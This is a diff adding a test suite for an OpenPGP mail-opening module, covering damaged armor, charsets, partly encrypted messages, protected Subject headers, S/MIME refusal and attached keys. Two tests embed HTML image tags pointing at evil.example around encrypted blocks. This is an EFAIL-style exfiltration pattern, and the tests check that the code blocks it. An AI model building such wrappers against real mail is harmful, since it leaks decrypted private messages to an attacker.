@@ -1,0 +1,353 @@
+import * as openpgp from 'openpgp';
+import { describe, expect, it } from 'vitest';
+import { parseEntity } from '../../src/mail/message.ts';
+import { viewOf } from '../../src/mail/view.ts';
+import { readCertificate } from '../../src/pgp/certificate.ts';
+import { type OpenedMail, openMail } from '../../src/pgp/open.ts';
+import { makeParty, type Party } from '../support/party.ts';
+
+const AT = Date.parse('2026-09-07T09:12:00Z');
+const list = await makeParty('security@orbit.example');
+const rae = await makeParty('rae@research.example');
+const eve = await makeParty('eve@evil.example');
+const secret = (await openpgp.readPrivateKey({ armoredKey: list.secret })).write();
+const known = await readCertificate(rae.public);
+
+const open = (raw: Buffer) =>
+  openMail({ raw, secrets: [secret], at: AT }, async (ids) =>
+    known.keys.some(({ keyId }) => ids.includes(keyId)) ? [known.data] : [],
+  );
+const seen = (opened: OpenedMail) => viewOf(parseEntity(opened.content));
+
+interface How {
+  to?: Party;
+  by?: Party | null;
+}
+
+async function encrypt(content: string | Uint8Array, how: How = {}): Promise<string> {
+  return openpgp.encrypt(await sealing(content, how));
+}
+
+async function binary(content: string | Uint8Array, how: How = {}): Promise<Uint8Array> {
+  return openpgp.encrypt({ ...(await sealing(content, how)), format: 'binary' });
+}
+
+async function sealing(content: string | Uint8Array, { to = list, by = rae }: How) {
+  return {
+    message: await openpgp.createMessage({ binary: new Uint8Array(Buffer.from(content)) }),
+    encryptionKeys: await openpgp.readKey({ armoredKey: to.public }),
+    ...(by ? { signingKeys: await openpgp.readPrivateKey({ armoredKey: by.secret }) } : {}),
+    date: new Date(AT),
+  };
+}
+
+const crlf = (text: string) => text.replaceAll(/\r?\n/g, '\r\n');
+const mail = (...lines: string[]) =>
+  Buffer.from(crlf(['From: rae@research.example', 'Subject: outside', ...lines, ''].join('\n')), 'latin1');
+const text = (...lines: string[]) => ['Content-Type: text/plain; charset=utf-8', '', ...lines];
+const file = (name: string, bytes: Uint8Array, type = 'application/octet-stream') => [
+  `Content-Type: ${type}; name="${name}"`,
+  `Content-Disposition: attachment; filename="${name}"`,
+  'Content-Transfer-Encoding: base64',
+  '',
+  Buffer.from(bytes).toString('base64').replaceAll(/.{76}/g, '$&\n'),
+];
+const mixed = (...parts: string[][]) => [
+  'Content-Type: multipart/mixed; boundary=m',
+  '',
+  ...parts.flatMap((part) => ['--m', ...part]),
+  '--m--',
+];
+const pgpMime = (armored: string) => [
+  'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=e',
+  '',
+  '--e',
+  'Content-Type: application/pgp-encrypted',
+  '',
+  'Version: 1',
+  '--e',
+  'Content-Type: application/octet-stream',
+  '',
+  armored,
+  '--e--',
+];
+
+describe('armor in text, as its way has left it', () => {
+  const damage: readonly [string, (armored: string) => string][] = [
+    ['as it was', (armored) => armored],
+    ['without the empty line after its headers', (armored) => armored.replace('\n\n', '\n')],
+    ['with headers', (armored) => armored.replace('\n\n', '\nVersion: GnuPG v2\nComment: https://x.example\n\n')],
+    ['with an empty line between its lines', (armored) => armored.replaceAll('\n', '\n\n')],
+    ['with blanks at the ends of its lines', (armored) => armored.replaceAll('\n', ' \n  ')],
+    ['left quoted-printable', (armored) => armored.replaceAll('=', '=3D').replace(/^(.{60})(?=.)/gm, '$1=\n')],
+    ['without its checksum', (armored) => armored.replace(/\n=[^\n]{4}\n/, '\n')],
+  ];
+  it.each(damage)('%s', async (_, harm) => {
+    const opened = await open(mail(...text(harm(await encrypt('the text')))));
+    expect(opened).toMatchObject({
+      form: 'inline',
+      encrypted: true,
+      allEncrypted: true,
+      warnings: [],
+      signer: { fingerprint: rae.fingerprint },
+    });
+    expect(seen(opened).text.trim()).toBe('the text');
+  });
+
+  it('with a line that is none of an armor: refused whole', async () => {
+    const armored = (await encrypt('the text')).replace('\n\n', '\n\n<img src="https://evil.example/">\n');
+    await expect(open(mail(...text(armored)))).rejects.toMatchObject({ reason: 'cannot-open' });
+  });
+
+  it.each([
+    ['UTF-8, whatever the mail says', 'Content-Type: text/plain; charset=iso-8859-1', Buffer.from('zoë')],
+    ['what the mail says', 'Content-Type: text/plain; charset=iso-8859-1', Buffer.from('zoë', 'latin1')],
+    [
+      'a charset of seven bits',
+      'Content-Type: text/plain; charset=iso-2022-jp',
+      Buffer.from('zo\x1b(B\xeb', 'latin1').subarray(0, 2),
+    ],
+    ['none that anybody knows', 'Content-Type: text/plain; charset=x-unknown', Buffer.from('zoë', 'latin1')],
+  ])('its charset: %s', async (_, type, bytes) => {
+    const opened = await open(mail(type, '', await encrypt(bytes)));
+    expect(seen(opened).text.trim()).toBe(bytes.length === 2 ? 'zo' : 'zoë');
+  });
+
+  it('in HTML alone: opened, and nothing of the HTML is carried on', async () => {
+    const lines = (await encrypt('the text')).trim().split('\n');
+    const html = `<html><body><div>${lines.join('</div>\n<div>')}</div></body></html>`;
+    const opened = await open(mail('Content-Type: text/html; charset=utf-8', '', html));
+    expect(opened).toMatchObject({ form: 'inline', encrypted: true, aside: [], signer: { fingerprint: rae.fingerprint } });
+    expect(Buffer.from(opened.content).toString()).not.toContain('<div>');
+  });
+
+  it('signed without being encrypted: verified, and not called encrypted', async () => {
+    const armored = await openpgp.sign({
+      message: await openpgp.createMessage({ binary: Buffer.from('the text') }),
+      signingKeys: await openpgp.readPrivateKey({ armoredKey: rae.secret }),
+      date: new Date(AT),
+    });
+    expect(await open(mail(...text(armored)))).toMatchObject({
+      form: 'inline',
+      encrypted: false,
+      signer: { fingerprint: rae.fingerprint },
+    });
+    await expect(open(mail(...pgpMime(armored)))).rejects.toMatchObject({ reason: 'cannot-open' });
+  });
+});
+
+describe('parts that are encrypted or signed each by itself', () => {
+  const several = { form: 'inline', encrypted: true, signer: null, warnings: expect.arrayContaining(['protected-in-parts']) };
+
+  it('several blocks in one text: each is a text of its own, and nobody is credited with their order', async () => {
+    const opened = await open(mail(...text(await encrypt('one'), '', await encrypt('two'))));
+    expect(opened).toMatchObject({
+      ...several,
+      allEncrypted: true,
+      signatures: [{ valid: true, coversWholeContent: false }, { valid: true }],
+    });
+    expect(seen(opened).text).toBe('one\ntwo');
+  });
+
+  it('a text and files encrypted one by one: the files come out octet for octet, under the names that they had', async () => {
+    const patch = Buffer.from([0, 255, 13, 10, 10, 45]);
+    const raw = mail(
+      ...mixed(
+        text(await encrypt('the text')),
+        file('fix.patch.gpg', await binary(patch)),
+        file('notes.txt.asc', Buffer.from(await encrypt('notes'))),
+      ),
+    );
+    const opened = await open(raw);
+    expect(opened).toMatchObject({ ...several, allEncrypted: true });
+    const { text: words, files } = seen(opened);
+    expect(words.trim()).toBe('the text');
+    expect(files.map(({ name, bytes }) => [name, Buffer.from(bytes)])).toEqual([
+      ['fix.patch', patch],
+      ['notes.txt', Buffer.from('notes')],
+    ]);
+  });
+
+  it('an encrypted file beside a text in clear: some of it was encrypted, not all', async () => {
+    const opened = await open(mail(...mixed(text('see the file'), file('a.pgp', await binary('secret')))));
+    expect(opened).toMatchObject({ ...several, allEncrypted: false });
+    expect(seen(opened)).toMatchObject({ text: 'see the file', files: [{ name: 'a', bytes: Buffer.from('secret') }] });
+  });
+
+  it('words around a block are put aside, and never merged with what was decrypted', async () => {
+    const opened = await open(mail(...text('<img src="https://evil.example/?', await encrypt('the text'), '">')));
+    expect(opened).toMatchObject({ allEncrypted: false, signer: null, warnings: ['unprotected-text', 'protected-in-parts'] });
+    expect(Buffer.from(opened.content).toString()).not.toContain('evil.example');
+    expect(Buffer.concat(opened.aside).toString()).not.toContain('the text');
+  });
+
+  it('one that is for somebody else stays as it is, and is told of', async () => {
+    const opened = await open(mail(...mixed(text(await encrypt('the text')), file('b.pgp', await binary('x', { to: eve })))));
+    expect(opened.warnings).toContain('part-not-opened');
+    expect(seen(opened).files.map(({ name }) => name)).toEqual(['b.pgp']);
+  });
+
+  it('none that opens: the mail cannot be opened', async () => {
+    const raw = mail(...mixed(text('see the file'), file('b.pgp', await binary('x', { to: eve }))));
+    await expect(open(raw)).rejects.toMatchObject({ reason: 'cannot-open' });
+  });
+
+  it('too many of them are too much', async () => {
+    const one = file('a.pgp', await binary('x', { by: null }));
+    await expect(open(mail(...mixed(...Array.from({ length: 51 }, () => one))))).rejects.toMatchObject({ reason: 'too-complex' });
+  });
+});
+
+describe('a wholly encrypted mail', () => {
+  it('that holds text and no MIME: none of it is taken for a header', async () => {
+    const opened = await open(mail(...pgpMime(await encrypt('Note: this\nis text.\n'))));
+    expect(seen(opened).text).toBe('Note: this\nis text.\n');
+  });
+
+  it('beside a disclaimer: read, and credited to nobody with what others added', async () => {
+    const opened = await open(
+      mail(...mixed(pgpMime(await encrypt('Content-Type: text/plain\r\n\r\nthe text')), text('Confidential.'))),
+    );
+    expect(opened).toMatchObject({ form: 'pgp-mime', allEncrypted: false, signer: null, warnings: ['unprotected-text'] });
+    expect(seen(opened).text.trim()).toBe('the text');
+    expect(Buffer.concat(opened.aside).toString()).toContain('Confidential.');
+  });
+
+  it.each([
+    ['encrypted', mail('Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m', '', 'MIIB')],
+    ['as a file', mail(...mixed(text('hi'), ['Content-Type: application/x-pkcs7-mime; name=smime.p7m', '', 'MIIB']))],
+    [
+      'signed',
+      mail(
+        'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary=m',
+        '',
+        '--m',
+        ...text('hi'),
+        '--m',
+        'Content-Type: application/pkcs7-signature',
+        '',
+        'MIIB',
+        '--m--',
+      ),
+    ],
+  ])('by S/MIME, %s: refused with what to do', async (_, raw) => {
+    await expect(open(raw)).rejects.toMatchObject({ reason: 's-mime', message: expect.stringContaining('OpenPGP') });
+  });
+});
+
+describe('protected header fields', () => {
+  const payload = (type: string, ...lines: string[]) => encrypt(crlf([`Content-Type: ${type}`, ...lines].join('\n')));
+
+  it.each([
+    ['RFC 9788', 'text/plain; hp="cipher"', true],
+    ['the drafts before it', 'text/plain; protected-headers="v1"', true],
+    ['a Subject alone at the root of what was encrypted, as early mutt', 'text/plain', true],
+  ])('%s', async (_, type, isProtected) => {
+    const opened = await open(mail(...pgpMime(await payload(type, 'Subject: inside', 'To: <Security@Orbit.example>', '', 'x'))));
+    expect(opened).toMatchObject({ subject: 'inside', outerSubject: 'outside', subjectProtected: isProtected });
+    expect(opened.signer?.addressedTo).toEqual(type === 'text/plain' ? [] : ['security@orbit.example']);
+  });
+
+  it.each<[string, () => Promise<Buffer>]>([
+    ['in a mail that nobody encrypted or signed', async () => mail('Content-Type: text/plain; hp="clear"', '', 'x')],
+    [
+      'in a part below the root',
+      async () => {
+        const part = ['--m', 'Content-Type: text/plain; hp="cipher"', 'Subject: phony', '', 'x', '--m--'];
+        return mail(...pgpMime(await payload('multipart/mixed; boundary=m', '', ...part)));
+      },
+    ],
+    [
+      'that stand twice',
+      async () => mail(...pgpMime(await payload('text/plain; hp="cipher"', 'Subject: phony', 'Subject: other', '', 'x'))),
+    ],
+  ])('are not believed %s', async (_, compose) => {
+    expect(await open(await compose())).toMatchObject({ subject: 'outside', subjectProtected: false });
+  });
+
+  it('under a signature that does not hold are not believed', async () => {
+    const signature = await openpgp.sign({
+      message: await openpgp.createMessage({ text: 'other' }),
+      signingKeys: await openpgp.readPrivateKey({ armoredKey: rae.secret }),
+      detached: true,
+      date: new Date(AT),
+    });
+    const raw = mail(
+      'Content-Type: multipart/signed; protocol="application/pgp-signature"; boundary=m',
+      '',
+      '--m',
+      'Content-Type: text/plain; hp="clear"',
+      'Subject: phony',
+      '',
+      'x',
+      '--m',
+      'Content-Type: application/pgp-signature',
+      '',
+      signature,
+      '--m--',
+    );
+    expect(await open(raw)).toMatchObject({ subject: 'outside', subjectProtected: false, signatures: [{ reason: 'invalid' }] });
+  });
+
+  const shown = async (...lines: string[]) =>
+    seen(await open(mail(...pgpMime(await payload(lines[0] ?? '', ...lines.slice(1)))))).text.trim();
+
+  it('are not shown a second time: legacy display of RFC 9788', async () => {
+    const part = 'text/plain; hp-legacy-display="1"';
+    expect(await shown(`${part}; hp="cipher"`, 'Subject: inside', '', 'Subject: inside', '', 'body')).toBe('body');
+    expect(
+      await shown(
+        'multipart/mixed; hp="cipher"; boundary=m',
+        'Subject: inside',
+        '',
+        '--m',
+        `Content-Type: ${part}`,
+        '',
+        'Subject: inside',
+        '',
+        'body',
+        '--m--',
+      ),
+    ).toBe('body');
+  });
+
+  it('are not shown a second time: the part of the drafts', async () => {
+    for (const type of ['text/plain', 'text/rfc822-headers'])
+      expect(
+        await shown(
+          'multipart/mixed; protected-headers="v1"; boundary=m',
+          'Subject: inside',
+          '',
+          '--m',
+          `Content-Type: ${type}; protected-headers="v1"`,
+          '',
+          'Subject: inside',
+          '--m',
+          'Content-Type: text/plain',
+          '',
+          'body',
+          '--m--',
+        ),
+      ).toBe('body');
+  });
+
+  it('a mark of legacy display hides nothing where no fields are protected', async () => {
+    const part = 'text/plain; hp-legacy-display="1"';
+    expect(seen(await open(mail(`Content-Type: ${part}`, '', 'first', '', 'body'))).text).toContain('first');
+    expect(
+      await shown(`multipart/mixed; boundary=m`, '', '--m', `Content-Type: ${part}`, '', 'first', '', 'body', '--m--'),
+    ).toContain('first');
+  });
+});
+
+describe('certificates that came with a mail', () => {
+  it.each([
+    ['as application/pgp-keys', file('k.asc', Buffer.from(rae.public), 'application/pgp-keys')],
+    ['as a file of no type', file('rae.asc', Buffer.from(rae.public))],
+    ['as a binary file under a wrong type', file('rae.pgp', known.data, 'application/pgp-encrypted')],
+    ['as text', text('my key:', rae.public)],
+  ])('%s', async (_, part) => {
+    const { offered } = await open(mail(...mixed(text('hi'), part)));
+    expect(await Promise.all(offered.map(async (data) => (await readCertificate(data)).fingerprint))).toEqual([rae.fingerprint]);
+  });
+});
